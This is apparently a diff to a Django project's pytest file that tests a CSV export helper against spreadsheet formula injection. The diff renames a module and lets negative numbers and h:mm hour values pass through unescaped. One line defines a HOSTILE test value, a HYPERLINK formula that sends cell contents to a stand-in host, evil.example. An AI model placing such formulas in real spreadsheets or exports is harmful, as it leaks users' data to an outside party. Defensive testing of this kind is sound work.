@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from coproduce.csvexport import FORMULA_STARTS, safe_cell
+from coproduce.csv_export import FORMULA_STARTS, safe_cell
 from coproduce.deliberation.models import Statement
 from coproduce.hubs.models import Person
 from coproduce.timebank.models import Exchange, Transfer
@@ -19,7 +19,8 @@ from tests.test_permission_matrix import GETS, send
 
 pytestmark = pytest.mark.django_db
 
-NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # a number is data, never a formula
+# A number, or hours as h:mm, is data, never a formula.
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?|-?[0-9]+:[0-5][0-9]")
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 SOURCE = Path(__file__).resolve().parents[1] / "src" / "coproduce"
 
@@ -64,7 +65,10 @@ def test_no_csv_cell_can_run_as_a_formula(things, client):
     [
         ("=1+1", "'=1+1"),
         ("+44 20", "'+44 20"),
-        ("-2", "'-2"),
+        ("-2", "-2"),  # a number written as text stays a number
+        ("-0:45", "-0:45"),  # so do hours
+        ("-1+1", "'-1+1"),
+        ("-2-A1", "'-2-A1"),
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"),
@@ -81,7 +85,7 @@ def test_a_cell_is_made_safe_and_numbers_are_left_alone(value, safe):
 def test_only_the_helper_writes_csv():
     writers = []
     for path in SOURCE.rglob("*.py"):
-        if path.name == "csvexport.py":
+        if path.name == "csv_export.py":
             continue
         for node in ast.walk(ast.parse(path.read_text())):
             if (
@@ -91,4 +95,4 @@ def test_only_the_helper_writes_csv():
                 and node.value.id == "csv"
             ):
                 writers.append(f"{path.relative_to(SOURCE)}:{node.lineno}")
-    assert writers == [], "write CSV with coproduce.csvexport.csv_response"
+    assert writers == [], "write CSV with coproduce.csv_export.csv_response"
